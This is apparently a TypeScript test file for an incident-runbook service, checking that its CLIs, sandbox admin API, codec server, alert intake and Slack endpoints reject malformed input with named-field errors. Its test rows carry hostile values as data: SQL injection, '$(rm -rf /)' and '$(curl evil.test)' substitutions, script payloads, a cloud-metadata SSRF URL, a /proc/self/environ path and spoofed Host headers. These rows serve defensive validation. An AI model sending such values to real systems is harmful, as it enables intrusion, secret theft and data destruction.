/**
 * Bad input at the other boundaries (docs/guarantees.md, "Bad input"): every CLI refuses a
 * malformed argument with one `error:` line naming it (exit 2, no stack trace, nothing sent to
 * Temporal: the address is unreachable); the sandbox's admin API answers 400 naming the field and
 * changes nothing; the codec server answers 4xx with a message naming what is wrong and still
 * serves a good request; the alert intake answers 4xx naming the field and opens nothing; a
 * malformed answer of the deploy platform (the Vercel deployment list a rollback chooses from) is
 * a typed failure naming the field, and nothing of it is used. Workflow starts and updates are in
 * bad-input.test.ts.
 */
import { randomBytes } from 'node:crypto';
import { connect } from 'node:net';
import { ApplicationFailure } from '@temporalio/common';
import { DeployUnavailable, vercelEnvAdapter } from '../src/activities/deploy';
import { createDeployActivities } from '../src/activities/deploy/activities';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EncryptionCodec, ENCODING, keyRing, METADATA_ENCODING_KEY, METADATA_KEY_ID_KEY } from '../src/codec';
import { startCodecServer, type RunningCodecServer } from '../src/codec/server';
import { alertRulesSchema, DEFAULT_ALERT_RULES } from '../src/intake/rules';
import { createAlertIntakeServer, type OpenOrJoinRequest } from '../src/intake/server';
import { startSandbox, type RunningSandbox } from '@clerk-incident-runbook/clerk-sandbox';
import { runCli } from './helpers/cli';
import { Client, Connection } from '@temporalio/client';
import { createSlackApp, findingsFrom } from '../src/chat/slack-app';
import { slackWebClient } from '../src/chat/slack-client';
import { slackSignature } from '../src/chat/slack-signature';
import { huge, MB_STRING } from './helpers/bad-input';
import { vercelAnswering, type Listed, type ListChange } from './helpers/vercel-proxy';

// -- CLI ------------------------------------------------------------------------------------------

/** Nothing listens there: a command that got past its argument checks would say it cannot reach Temporal. */
const cliEnv = { ...process.env, TEMPORAL_ADDRESS: '127.0.0.1:1', PAYLOAD_KEY: '', PAYLOAD_KEYS_FILE: '', NO_COLOR: '1' };
/** Far above any one field's limit, well under the admin API's 1 MB body limit. */
const TEN_KB = 'x'.repeat(10_000);
const RAW_KEY = `sk_test_${'A1b2C3d4E5f6G7h8'}`;

/** script, arguments, what the first stderr line must say; `env` for commands configured by the environment. */
type CliRow = [script: string, args: string[], message: RegExp, env?: Record<string, string>];
const CLI_ROWS: CliRow[] = [
  ['src/cli/incident.ts', ['start', '--category', 'drop_tables', '--reporter', 'alice', '--summary', 's'], /^error: --category: .*expected one of "clerk_outage"/],
  ['src/cli/incident.ts', ['start', '--reporter', 'alice\u001b[31m', '--summary', 'sign-in broken'], /^error: --reporter: must be one line of plain text/],
  ['src/cli/incident.ts', ['start', '--input', '{"reporter":"alice","summary":"s","severity":"low"}'], /^error: input\.severity: unknown field/],
  ['src/cli/incident.ts', ['start', '--input', "'; DROP TABLE incidents;--"], /^error: option '--input <json>' argument .* is invalid\. not valid JSON/],
  ['src/cli/incident.ts', ['approve', 'incident-1', '--step', 'drop_tables', '--approver', 'bob'], /^error: --step: .*expected one of "emergency_bypass"/],
  ['src/cli/incident.ts', ['reject', 'incident-1', '--step', 'operator_action', '--approver', 'bob', '--reason', ' '], /^error: --reason: a rejection needs a reason/],
  ['src/cli/incident.ts', ['list', '--limit', 'lots'], /^error: --limit: must be a whole number/],
  ['src/cli/incident.ts', ['resolve', 'incident-1', '--by', 'alice', '--summary', 'fixed', '--detection', 'psychic'], /^error: --detection: .*expected one of "monitoring_alert"/],
  ['src/cli/incident.ts', ['extend', 'incident-1', '--by', 'bob', '--for', 'forever', '--reason', 'still down'], /^error: --for: must be a duration/],
  ['src/cli/incident.ts', ['provide-key', 'incident-1', '--ref', RAW_KEY, '--by', 'alice'], /^error: --ref: this looks like a raw secret key/],
  ['src/cli/incident.ts', ['start', '--reporter', 'alice', '--summary', `leaked ${RAW_KEY}xyz`], /^error: --summary: looks like a Clerk secret key .*never carries a secret/],
  ['src/cli/incident.ts', ['start', '--input', `{"category":"key_compromise","reporter":"alice","approvers":["bob","carol"],"summary":"s","exposedAt":"2999-01-01T00:00:00Z"}`], /^error: input\.exposedAt: must not be in the future/],
  ['src/cli/incident.ts', ['reject', 'incident-1', '--step', 'operator_action', '--approver', 'bob', '--reason', `token ${'xo' + 'xb-'}1234567890-abcdefghijkl`], /^error: --reason: looks like a Slack token/],
  ['src/cli/incident.ts', ['provide-key', 'incident-1', '--ref', 'env:VERCEL_TOKEN', '--by', 'alice'], /^error: --ref: VERCEL_TOKEN is one of the worker's own secrets/],
  ['src/cli/incident.ts', ['provide-key', 'incident-1', '--ref', 'file:/proc/self/environ', '--by', 'alice'], /^error: --ref: a key file cannot be under \/proc/],
  ['src/cli/incident.ts', ['sign', 'incident-1', 'maybe', '--step', 'emergency_bypass', '--approver', 'bob', '--key', 'agent'], /^error: <decision>: must be approve or reject/],
  ['src/cli/triage.ts', ['--probe-timeout', '5'], /^error: --probe-timeout: must be a duration/],
  ['src/cli/diagnose.ts', ['--user', "user_1'; DROP TABLE users;--", '--sandbox', 'http://127.0.0.1:1'], /^error: --user\[0\]: must be a Clerk user id/],
  ['src/cli/revoke-sessions.ts', ['start', '--active-from', '$(rm -rf /)', '--requester', 'alice', '--reason', 'r'], /^error: --active-from: must be an ISO 8601 time/],
  ['src/cli/reconcile.ts', ['start', '--requester', 'alice', '--reason', 'r', '--approval-above', 'many'], /^error: --approval-above: .*expected number/],
  ['src/cli/drill.ts', ['<script>'], /^error: <category>: must be one of clerk_outage, .* \(got "<script>"\)/],
  ['src/cli/drill.ts', ['all', '--via', 'carrier-pigeon'], /^error: --via: must be updates or slack \(got "carrier-pigeon"\)/],
  ['src/main.ts', [], /SLACK_SIGNING_SECRET, SLACK_CHANNEL: the Slack app needs SLACK_BOT_TOKEN, SLACK_SIGNING_SECRET and SLACK_CHANNEL together/, { SLACK_BOT_TOKEN: 'xoxb-1234567890-abcdefghij' }],
  ['src/main.ts', [], /SLACK_CHANNEL: must be a channel id \(C…\), not its name/, { SLACK_BOT_TOKEN: 'xoxb-1234567890-abcdefghij', SLACK_SIGNING_SECRET: 'abcdef0123456789abcdef', SLACK_CHANNEL: '#incidents' }],
  ['packages/clerk-sandbox/src/cli.ts', ['--rate-limit', '12'], /^error: option '--rate-limit <mode>' argument '12' is invalid\. use production, development, off/],
  ['src/codec/server.ts', [], /PAYLOAD_KEY: must be 32 bytes/, { PAYLOAD_KEY: 'k1:c2hvcnQ=' }],
  ['src/main.ts', [], /TEMPORAL_UI_PORT: .*expected number, received NaN/, { TEMPORAL_UI_PORT: '<script>' }],
  ['src/worker/index.ts', [], /DEPLOY_ADAPTER: .*expected one of "vercel"/, { DEPLOY_ADAPTER: 'ftp; rm -rf /' }],
  ['src/worker/index.ts', [], /PAGERDUTY_ROUTING_KEYS\.auth-oncall: must be a 32-character Events API v2 integration key/, { PAGERDUTY_ROUTING_KEYS: '{"auth-oncall":"$(curl evil.test)"}' }],
  ['src/worker/index.ts', [], /KEY_REF_ALLOWED_ENV: VERCEL_TOKEN names one of the worker's own secrets/, { KEY_REF_ALLOWED_ENV: 'VERCEL_TOKEN' }],
  ['src/worker/index.ts', [], /KEY_REF_ALLOWED_DIRS: \/proc: keys cannot be read from/, { KEY_REF_ALLOWED_DIRS: '/proc' }],
  ['src/worker/index.ts', [], /the roster cannot be read \(ENOENT\)/, { ROSTER_FILE: '/nonexistent/roster.yaml', CLERK_SECRET_KEY: 'sk_test_badinputrow' }],
  ['src/cli/incident.ts', ['cancel', 'incident-1', '--sign', 'agent'], /^error: --sign: name who cancels with --by/],
  ['src/cli/incident.ts', ['cancel', 'incident-1', '--by', 'alice\nbob'], /^error: --by: must be one line of plain text/],
];

describe.concurrent('a CLI refuses a malformed argument with one line naming it', () => {
  it.each(CLI_ROWS)('%s %j', async (script, args, message, env) => {
    const run = await runCli(script, args, { ...cliEnv, ...env });
    expect(run.code, run.stderr).not.toBe(0);
    // One line naming the argument; commander adds its usage line, the environment check one line per variable.
    expect(run.stderr).toMatch(message);
    expect(run.stderr.split('\n').filter((l) => l.trim() !== '').length, run.stderr).toBeLessThanOrEqual(3);
    expect(`${run.stdout}\n${run.stderr}`).not.toMatch(/^\s+at /m);
    expect(run.stderr).not.toMatch(/cannot reach Temporal/);
  });
});

// -- sandbox admin API ----------------------------------------------------------------------------

let sandbox: RunningSandbox;
let codec: RunningCodecServer;
const codecKey = randomBytes(32);

beforeAll(async () => {
  [sandbox, codec] = await Promise.all([
    startSandbox({ users: 10, seed: 'bad-input-admin' }),
    startCodecServer({ codec: new EncryptionCodec(keyRing('k1', { k1: codecKey })), allowedOrigins: ['http://localhost:8233'] }),
  ]);
});
afterAll(async () => {
  await Promise.all([sandbox?.close(), codec?.close()]);
});

interface Sent {
  status: number;
  body: { error?: string; field?: string; message?: string; code?: string };
}

async function send(base: string, method: string, path: string, body?: unknown, contentType = 'application/json'): Promise<Sent> {
  const raw = body === undefined ? undefined : Buffer.isBuffer(body) || typeof body === 'string' ? body : JSON.stringify(body);
  const res = await fetch(`${base}${path}`, { method, ...(raw === undefined ? {} : { body: raw, headers: { 'content-type': contentType } }) });
  const text = await res.text();
  return { status: res.status, body: text ? (JSON.parse(text) as Sent['body']) : {} };
}

/** What an admin request may change: compared before and after the refusals. */
async function sandboxState(): Promise<unknown> {
  const overview = (await send(sandbox.url, 'GET', '/__sandbox')).body as Record<string, unknown>;
  const stats = (await send(sandbox.url, 'GET', '/__sandbox/stats')).body;
  const pagerduty = (await send(sandbox.url, 'GET', '/__sandbox/pagerduty')).body;
  const vercel = (await send(sandbox.url, 'GET', '/__sandbox/vercel')).body;
  const { faults, rateLimit, outage, webhooks, app, keys, seed } = overview;
  return { faults, rateLimit, outage, webhooks, app, keys, seed, stats, pagerduty, vercel };
}

/** method, path, body (a string or Buffer is sent as it is), the field named, what the message says; `contentType` when not JSON. */
type AdminRow = [method: string, path: string, body: unknown, field: RegExp, message: RegExp, contentType?: string, status?: number];
const ADMIN_ROWS: AdminRow[] = [
  ['PUT', '/__sandbox/faults', { hangRate: 7 }, /^hangRate$/, /Too big: expected number to be <=1/],
  ['PUT', '/__sandbox/faults', { errorRates: { '500': 'lots' } }, /^errorRates\.500$/, /expected number, received string/],
  ['PUT', '/__sandbox/faults', { routes: { "GET /v1/users'; DROP TABLE users;--": { hangRate: 0.1 } } }, /^routes\.GET \/v1\/users'; DROP TABLE users;--$/, /unknown route/],
  ['PUT', '/__sandbox/faults', { hangRate: 0.1, chaos: true }, /^\(body\)$/, /Unrecognized key: "chaos"/],
  ['PUT', '/__sandbox/rate-limit', { rateLimit: 'unlimited' }, /^rateLimit$/, /Invalid input/],
  ['PUT', '/__sandbox/outage', { indicator: 'apocalyptic' }, /^indicator$/, /expected one of "minor"\|"major"\|"critical"/],
  ['PUT', '/__sandbox/outage', { windows: huge(1000, () => ({ durationMs: 1000 })) }, /^windows$/, /Too big: expected array to have <=100 items/],
  ['POST', '/__sandbox/keys', { secretKey: "sk_test_'; DROP TABLE keys;--" }, /^secretKey$/, /must look like sk_test_/],
  ['POST', '/__sandbox/keys', { label: 'rotated \u001b[31mkey' }, /^label$/, /must not contain control characters/],
  ['POST', '/__sandbox/seed', { users: -1 }, /^users$/, /Too small/],
  ['POST', '/__sandbox/users', { count: 1_000_000 }, /^count$/, /Too big: expected number to be <=100000/],
  ['PUT', '/__sandbox/app', { secretKey: TEN_KB }, /^secretKey$/, /Too big: expected string to have <=200 characters/],
  ['PUT', '/__sandbox/app', { secretKey: MB_STRING }, /^\(body\)$/, /Request body is too large/, undefined, 413],
  ['PUT', '/__sandbox/app', { sdkVersion: '$(rm -rf /)' }, /^sdkVersion$/, /must be a semver version/],
  ['PUT', '/__sandbox/clock', { skewMs: '5m' }, /^skewMs$/, /expected number, received string/],
  ['PUT', '/__sandbox/webhooks', { url: '<script>alert(1)</script>' }, /^url$/, /Invalid URL/],
  ['PUT', '/__sandbox/pagerduty', { routingKeys: ["R0212'; DROP TABLE services;--"] }, /^routingKeys\.0$/, /must be 32 letters or digits/],
  ['PUT', '/__sandbox/pagerduty', { failNext: { status: 418, count: 1 } }, /^failNext/, /Invalid input/],
  ['PUT', '/__sandbox/pagerduty', { rateLimitPerMinute: 0 }, /^rateLimitPerMinute$/, /Too small/],
  ['PUT', '/__sandbox/vercel', { badDeployments: ["dpl_x'; DROP TABLE deployments;--"] }, /^badDeployments\.0$/, /must be a deployment id/],
  ['PUT', '/__sandbox/vercel', { aliasDelayMs: -1 }, /^aliasDelayMs$/, /Too small/],
  ['PUT', '/__sandbox/vercel', { failAliasJobs: 1_000_000 }, /^failAliasJobs$/, /Too big/],
  ['POST', '/__sandbox/vercel/deployments', { meta: { githubCommitSha: '$(id)' } }, /^meta\.githubCommitSha$/, /must be a hex commit sha/],
  ['POST', '/__sandbox/vercel/deployments', { env: { 'BAD KEY; rm -rf /': 'x' } }, /^env/, /must be an env var name|Invalid key/],
  ['POST', '/__sandbox/vercel/deployments', { meta: { githubCommitMessage: TEN_KB } }, /^meta\.githubCommitMessage$/, /Too big: expected string to have <=1000 characters/],
  ['POST', '/__sandbox/vercel/deployments', { ageMs: 1e15 }, /^ageMs$/, /Too big/],
  ['POST', '/__sandbox/vercel/deployments', { bad: 'yes' }, /^bad$/, /expected boolean/],
  ['GET', '/__sandbox/audit?limit=lots', undefined, /^limit$/, /expected number, received NaN/],
  ['GET', '/__sandbox/sessions?status=zombie', undefined, /^status$/, /expected one of "active"/],
  ['POST', '/__sandbox/webhooks/replay', { eventIds: [TEN_KB] }, /^eventIds\.0$/, /Too big: expected string to have <=100 characters/],
  ['PUT', '/__sandbox/outage', '{"active": tru', /^\(body\)$/, /not valid JSON/],
  ['PUT', '/__sandbox/outage', 'active=true', /^\(body\)$/, /expected object, received string/, 'text/plain'],
  ['PUT', '/__sandbox/outage', '<outage active="true"/>', /^\(body\)$/, /Unsupported Media Type/, 'application/xml', 415],
];

describe('the sandbox admin API answers 400 naming the field, and changes nothing', () => {
  let before: unknown;
  beforeAll(async () => {
    before = await sandboxState();
  });

  describe.concurrent('refused', () => {
    it.each(ADMIN_ROWS)('%s %s %#', async (method, path, body, field, message, contentType, status = 400) => {
      const res = await send(sandbox.url, method, path, body, contentType);
      expect(res.status).toBe(status);
      expect(res.body.error).toBe('invalid_request');
      expect(res.body.field).toMatch(field);
      expect(res.body.message).toMatch(message);
    });
  });

  it('afterwards: the sandbox is as it was and takes a good request', async () => {
    expect(await sandboxState()).toEqual(before);
    const ok = await send(sandbox.url, 'PUT', '/__sandbox/outage', { active: true, indicator: 'major' });
    expect(ok.status).toBe(200);
    expect(((await sandboxState()) as { outage: { active: boolean } }).outage.active).toBe(true);
  });
});

// -- codec server ---------------------------------------------------------------------------------

const b64 = (s: string) => Buffer.from(s).toString('base64');
/** A JSON body with bytes that are not UTF-8 (0xff 0xfe) inside the data string. */
const invalidUtf8 = Buffer.concat([Buffer.from('{"payloads":[{"data":"'), Buffer.from([0xff, 0xfe]), Buffer.from('"}]}')]);

/** path, body, status, what the message says. */
type CodecRow = [path: string, what: string, body: unknown, status: number, message: RegExp, contentType?: string];
const CODEC_ROWS: CodecRow[] = [
  ['/decode', 'no payloads', {}, 400, /^payloads: .*expected array, received undefined/],
  ['/encode', 'payloads of the wrong type', { payloads: 'abc' }, 400, /^payloads: .*expected array, received string/],
  ['/decode', 'data that is not base64', { payloads: [{ data: '<script>alert(1)</script>' }] }, 400, /^payloads\.0\.data: must be base64/],
  ['/decode', 'metadata of the wrong type', { payloads: [{ metadata: { encoding: 123 }, data: '' }] }, 400, /^payloads\.0\.metadata\.encoding: .*expected string, received number/],
  ['/decode', 'bytes that are not UTF-8', invalidUtf8, 400, /^payloads\.0\.data: must be base64/],
  ['/decode', 'encrypted, without a key id', { payloads: [{ metadata: { [METADATA_ENCODING_KEY]: b64(ENCODING) }, data: b64('x'.repeat(40)) }] }, 422, /without encryption-key-id metadata/],
  ['/decode', 'encrypted with an unknown key id', { payloads: [{ metadata: { [METADATA_ENCODING_KEY]: b64(ENCODING), [METADATA_KEY_ID_KEY]: b64('k9') }, data: b64('x'.repeat(40)) }] }, 422, /unknown key id k9/],
  ['/decode', 'tampered ciphertext', { payloads: [{ metadata: { [METADATA_ENCODING_KEY]: b64(ENCODING), [METADATA_KEY_ID_KEY]: b64('k1') }, data: b64('x'.repeat(40)) }] }, 422, /failed authentication/],
  ['/encode', 'a body that is not JSON', '{"payloads": [', 400, /Body is not valid JSON/],
  ['/encode', 'a body of plain text', 'payloads', 400, /^body: .*expected object, received string/, 'text/plain'],
  ['/encode', 'a body of another content type', '<payloads/>', 415, /Unsupported Media Type/, 'application/xml'],
  ['/encode', 'a body above 32 MB', Buffer.alloc(33 * 1024 * 1024, 0x20), 413, /Request body is too large/],
];

describe('the codec server answers 4xx with a message naming what is wrong, and still serves', () => {
  describe.concurrent('refused', () => {
    it.each(CODEC_ROWS)('%s: %s', async (path, _what, body, status, message, contentType) => {
      const res = await send(codec.url, 'POST', path, body, contentType);
      expect(res.status).toBe(status);
      // Our refusals are `{ error: <message> }`; fastify's own (JSON syntax, content type, size) `{ error: <status text>, message }`.
      expect(res.body.message ?? res.body.error).toMatch(message);
    });
  });

  it('afterwards: a payload encodes and decodes back', async () => {
    const plain = { payloads: [{ metadata: { encoding: b64('json/plain') }, data: b64('{"ok":true}') }] };
    const encoded = await send(codec.url, 'POST', '/encode', plain);
    expect(encoded.status).toBe(200);
    const decoded = await send(codec.url, 'POST', '/decode', encoded.body);
    expect(decoded).toEqual({ status: 200, body: plain });
  });
});

/** A raw request with exactly these headers (fetch would set Host from the URL). */
function rawPost(base: string, path: string, headers: Record<string, string>, body: string): Promise<Sent> {
  const { hostname, port } = new URL(base);
  return new Promise((resolve, reject) => {
    const socket = connect(Number(port), hostname, () => {
      const lines = Object.entries({ ...headers, 'content-type': 'application/json', 'content-length': String(Buffer.byteLength(body)), connection: 'close' }).map(([k, v]) => `${k}: ${v}`);
      socket.end(`POST ${path} HTTP/1.1\r\n${lines.join('\r\n')}\r\n\r\n${body}`);
    });
    let raw = '';
    socket.on('data', (c: Buffer) => (raw += c.toString('utf8')));
    socket.on('error', reject);
    socket.on('close', () => {
      const status = Number(raw.split(' ')[1]);
      const text = raw.slice(raw.indexOf('\r\n\r\n') + 4);
      resolve({ status, body: text.trim().startsWith('{') ? (JSON.parse(text) as Sent['body']) : {} });
    });
  });
}

describe('the codec server decodes only for its own Host names and the UI origin (DNS rebinding)', () => {
  const plain = JSON.stringify({ payloads: [{ metadata: { encoding: b64('json/plain') }, data: b64('{"ok":true}') }] });
  const port = () => new URL(codec.url).port;
  /** Host header (undefined: none), Origin header, expected status. */
  const HOST_ROWS: [what: string, host: () => string | undefined, origin: string | undefined, status: number][] = [
    ['another name', () => `evil.com:${port()}`, undefined, 403],
    ['another name, no port', () => 'evil.com', undefined, 403],
    ['a name that starts like loopback', () => `127.0.0.1.evil.com:${port()}`, undefined, 403],
    ['localhost with a trailing dot', () => `localhost.:${port()}`, undefined, 403],
    ['loopback on another port', () => '127.0.0.1:1', undefined, 403],
    ['loopback without the port', () => '127.0.0.1', undefined, 403],
    ['a decimal spelling of 127.0.0.1', () => `2130706433:${port()}`, undefined, 403],
    ['a userinfo trick', () => `127.0.0.1:${port()}@evil.com`, undefined, 403],
    ['no Host at all', () => undefined, undefined, 400],
    ['an empty Host', () => '', undefined, 403],
    ['the UI origin spoofed by another page', () => `127.0.0.1:${port()}`, 'http://evil.com', 403],
    ['a null origin (sandboxed iframe)', () => `127.0.0.1:${port()}`, 'null', 403],
    ['127.0.0.1', () => `127.0.0.1:${port()}`, undefined, 200],
    ['localhost in capitals (DNS is case-blind)', () => `LOCALHOST:${port()}`, undefined, 200],
    ['IPv6 loopback', () => `[::1]:${port()}`, undefined, 200],
    ['the UI origin', () => `localhost:${port()}`, 'http://localhost:8233', 200],
  ];
  it.each(HOST_ROWS)('%s', async (_what, host, origin, status) => {
    const headers: Record<string, string> = {};
    const h = host();
    if (h !== undefined) headers.host = h;
    if (origin !== undefined) headers.origin = origin;
    const res = await rawPost(codec.url, '/decode', headers, plain);
    expect(res.status).toBe(status);
    if (status === 403) expect(res.body.error).toMatch(origin === undefined ? /^Host .* is not one this codec server answers \(127\.0\.0\.1:\d+, localhost:\d+, \[::1\]:\d+; CODEC_ALLOWED_HOSTS adds others\)$/ : /^Origin .* may not call this codec server/);
    if (status === 200) expect(res.body).toEqual(JSON.parse(plain));
  });

  it('answers the names CODEC_ALLOWED_HOSTS gives, and only those', async () => {
    const named = await startCodecServer({ codec: new EncryptionCodec(keyRing('k1', { k1: codecKey })), allowedOrigins: ['http://localhost:8233'], allowedHosts: ['codec.internal', 'ui.example:443'] });
    try {
      expect((await rawPost(named.url, '/decode', { host: `codec.internal:${new URL(named.url).port}` }, plain)).status).toBe(200);
      expect((await rawPost(named.url, '/decode', { host: 'ui.example:443' }, plain)).status).toBe(200);
      expect((await rawPost(named.url, '/decode', { host: `127.0.0.1:${new URL(named.url).port}` }, plain)).status).toBe(403);
      expect((await rawPost(named.url, '/decode', { host: 'ui.example' }, plain)).status).toBe(403);
    } finally {
      await named.close();
    }
  });
});

// -- alert intake ---------------------------------------------------------------------------------

/** Alertmanager's webhook payload version 4 with one ClerkAPI5xx alert; `over` replaces top-level fields. */
const amPayload = (alert: Record<string, unknown> = {}, over: Record<string, unknown> = {}) => ({
  version: '4',
  groupKey: '{}:{alertname="ClerkAPI5xx"}',
  status: 'firing',
  receiver: 'runbook',
  alerts: [{ status: 'firing', labels: { alertname: 'ClerkAPI5xx' }, annotations: {}, startsAt: '2026-12-02T03:00:00Z', fingerprint: 'f1', ...alert }],
  ...over,
});

type IntakeRow = [path: string, what: string, body: unknown, status: number, message: RegExp];
const INTAKE_ROWS: IntakeRow[] = [
  ['/alerts/alertmanager', 'another payload version', amPayload({}, { version: "4'; DROP TABLE alerts;--" }), 400, /^version: must be "4"/],
  ['/alerts/alertmanager', 'a startsAt that is a command', amPayload({ startsAt: '$(rm -rf /)' }), 400, /^alerts\.0\.startsAt: must be an RFC 3339 date-time/],
  ['/alerts/alertmanager', 'a label of a megabyte', amPayload({ labels: { alertname: MB_STRING } }), 400, /^alerts\.0\.labels\.alertname: Too big/],
  ['/alerts/alertmanager', 'too many alerts', amPayload({}, { alerts: huge(1001, (i) => ({ status: 'firing', labels: {}, startsAt: '2026-12-02T03:00:00Z', fingerprint: `f${i}` })) }), 400, /^alerts: Too big: expected array to have <=1000 items/],
  ['/alerts/alertmanager', 'labels that are not strings', amPayload({ labels: { alertname: { $ne: null } } }), 400, /^alerts\.0\.labels\.alertname: .*expected string, received object/],
  ['/alerts/grafana', 'no orgId', amPayload(), 400, /^orgId: .*expected number, received undefined/],
  ['/alerts/grafana', 'values that are not numbers', { ...amPayload({ values: { B: '<script>' } }), orgId: 1 }, 400, /^alerts\.0\.values\.B: .*expected number, received string/],
  ['/alerts/alertmanager', 'a body that is not JSON', '{"version": "4", ', 400, /^body: not valid JSON/],
  ['/alerts/alertmanager', 'a body above 2 MB', { ...amPayload(), pad: 'x'.repeat(3 * 1024 * 1024) }, 413, /^body: larger than the limit/],
];

describe('the alert intake answers 4xx naming the field, opens nothing, and still serves', () => {
  const token = randomBytes(24).toString('hex');
  const opened: OpenOrJoinRequest[] = [];
  const intake = createAlertIntakeServer({
    token,
    rules: alertRulesSchema.parse(DEFAULT_ALERT_RULES),
    log: () => undefined,
    opener: {
      openOrJoin: async (req) => (opened.push(req), { incidentId: 'incident-1', joined: opened.length > 1 }),
      alertResolved: async () => ({ recorded: false }),
    },
  });
  let url = '';
  beforeAll(async () => {
    url = await intake.listen({ port: 0, host: '127.0.0.1' });
  });
  afterAll(async () => intake.close());
  const postAlert = async (path: string, body: unknown, auth = `Bearer ${token}`) => {
    const res = await fetch(`${url}${path}`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: auth }, body: typeof body === 'string' ? body : JSON.stringify(body) });
    return { status: res.status, body: (await res.json()) as { error: string } };
  };

  describe.concurrent('refused', () => {
    it.each(INTAKE_ROWS)('%s: %s', async (path, _what, body, status, message) => {
      const res = await postAlert(path, body);
      expect(res.status).toBe(status);
      expect(res.body.error).toMatch(message);
    });
    it('a wrong token: 401', async () => {
      expect((await postAlert('/alerts/alertmanager', amPayload(), `Bearer ${token.slice(1)}`)).status).toBe(401);
    });
  });

  it('afterwards: nothing was opened, and a good notification opens clerk_outage', async () => {
    expect(opened).toEqual([]);
    const res = await postAlert('/alerts/alertmanager', amPayload());
    expect(res.status).toBe(202);
    expect(opened.map((o) => o.category)).toEqual(['clerk_outage']);
  });
});

// -- the Slack app's request URLs ------------------------------------------------------------------

/** A payload Slack would send, with `patch` applied (the signature is right: the body itself is bad). */
const click = (patch: Record<string, unknown> = {}) => ({
  type: 'block_actions',
  user: { id: 'U0SANDBOXBOB' },
  team: { id: 'T0SANDBOX' },
  trigger_id: '1.2.abc',
  response_url: 'https://hooks.slack.com/actions/T0SANDBOX/1/abc',
  container: { type: 'message', message_ts: '1.1', channel_id: 'C0SANDBOXINC' },
  actions: [{ action_id: 'approve_step', value: JSON.stringify({ incident: 'incident-1', step: 'emergency_bypass' }), action_ts: '2.2' }],
  ...patch,
});
const form = (payload: unknown) => `payload=${encodeURIComponent(typeof payload === 'string' ? payload : JSON.stringify(payload))}`;

type SlackRow = [path: string, what: string, body: string, status: number, message: RegExp, contentType?: string];
const SLACK_ROWS: SlackRow[] = [
  ['/slack/interactions', 'a payload that is not JSON', form('{"type": "block_actions", '), 400, /^payload: not JSON/],
  ['/slack/interactions', 'no actions', form(click({ actions: [] })), 400, /^payload\.actions: Too small/],
  ['/slack/interactions', 'a user id that is an object', form(click({ user: { id: { $ne: null } } })), 400, /^payload\.user\.id: .*expected string, received object/],
  ['/slack/interactions', 'a button value naming a step the runbook does not have', form(click({ actions: [{ action_id: 'approve_step', value: JSON.stringify({ incident: 'incident-1', step: 'drop_tables' }), action_ts: '2.2' }] })), 400, /^payload\.actions\.0\.value: not a gate of this runbook/],
  ['/slack/interactions', 'a button value with extra fields (an approver smuggled in)', form(click({ actions: [{ action_id: 'approve_step', value: JSON.stringify({ incident: 'incident-1', step: 'emergency_bypass', approver: 'carol' }), action_ts: '2.2' }] })), 400, /^payload\.actions\.0\.value: not a gate/],
  ['/slack/interactions', 'a response_url that is not a URL', form(click({ response_url: 'javascript:alert(1)' })), 400, /^payload\.response_url: /],
  ['/slack/interactions', 'a response_url elsewhere than Slack (the app would POST there)', form(click({ response_url: 'http://169.254.169.254/latest/meta-data/' })), 400, /^payload\.response_url: must be a response URL of Slack \(https:\/\/hooks\.slack\.com\)/],
  ['/slack/interactions', 'a modal whose metadata is not ours', form({ type: 'view_submission', user: { id: 'U0SANDBOXBOB' }, view: { id: 'V1', callback_id: 'reject_step', private_metadata: '<script>', state: { values: {} } } }), 400, /^payload\.view\.private_metadata: not a gate of this runbook/],
  ['/slack/interactions', 'a JSON body instead of Slack\'s form', JSON.stringify(click()), 415, /^body: Slack sends application\/x-www-form-urlencoded/, 'application/json'],
  ['/slack/interactions', 'a body above 1 MiB', form(click({ pad: 'x'.repeat(1_100_000) })), 413, /^body: larger than 1 MiB/],
  ['/slack/commands', 'no user_id', 'command=%2Fincident&text=status', 400, /^user_id: .*expected string, received undefined/],
  ['/slack/commands', 'a response_url that is not a URL', 'command=%2Fincident&text=status&user_id=U0SANDBOXBOB&response_url=%24(rm%20-rf%20%2F)', 400, /^response_url: /],
];

describe('the Slack app answers 4xx naming the field, sends nothing, and still serves', () => {
  const secret = randomBytes(16).toString('hex');
  // Nothing listens at either address: a request that got past its checks would fail reaching Temporal or Slack, not be answered 4xx.
  const app = createSlackApp({
    signingSecret: secret,
    slack: slackWebClient({ botToken: 'xoxb-test-0000000000', apiUrl: 'http://127.0.0.1:1/api/' }),
    temporal: new Client({ connection: Connection.lazy({ address: '127.0.0.1:1' }) }),
    taskQueue: 'bad-input',
    roster: () => undefined,
    approvers: [],
    responseOrigins: ['https://hooks.slack.com'],
    log: () => undefined,
  });
  let url = '';
  beforeAll(async () => {
    url = await app.listen({ port: 0, host: '127.0.0.1' });
  });
  afterAll(async () => app.close());
  const post = async (path: string, body: string, contentType = 'application/x-www-form-urlencoded', sign = true) => {
    const ts = String(Math.floor(Date.now() / 1000));
    const res = await fetch(`${url}${path}`, { method: 'POST', headers: { 'content-type': contentType, ...(sign ? { 'x-slack-request-timestamp': ts, 'x-slack-signature': slackSignature(secret, ts, body) } : {}) }, body });
    return { status: res.status, body: (await res.json().catch(() => ({}))) as { error?: string } };
  };

  describe.concurrent('refused', () => {
    it.each(SLACK_ROWS)('%s: %s', async (path, _what, body, status, message, contentType) => {
      const res = await post(path, body, contentType);
      expect(res.status).toBe(status);
      expect(res.body.error).toMatch(message);
    });
    it('unsigned: 401 naming the header, before the body is looked at', async () => {
      const res = await post('/slack/interactions', form('not even JSON'), undefined, false);
      expect(res.status).toBe(401);
      expect(res.body.error).toMatch(/^X-Slack-Request-Timestamp: missing/);
    });
  });

  it('afterwards: a good command is still answered (without a roster: nobody, said so)', async () => {
    const res = await fetch(`${url}/slack/commands`, { method: 'POST' }).catch(() => undefined);
    expect(res?.status).toBe(401);
    const ok = await post('/slack/commands', 'command=%2Fincident&text=status&user_id=U0SANDBOXBOB');
    expect(ok.status).toBe(200);
    expect(JSON.stringify(ok.body)).toContain('no on-call roster');
  });
});

type FindingsRow = [what: string, values: Record<string, string>, input: string, message: RegExp];
const FINDINGS_ROWS: FindingsRow[] = [
  ['no root cause', { root_cause: '  ' }, 'root_cause', /root cause is required/],
  ['a detection that is not one of the three', { root_cause: 'x', detection: 'psychic' }, 'detection', /must be one of monitoring_alert, user_report, manual/],
  ['data loss that is neither none nor partial', { root_cause: 'x', data_loss: 'some' }, 'data_loss', /"none", or "partial: what was lost"/],
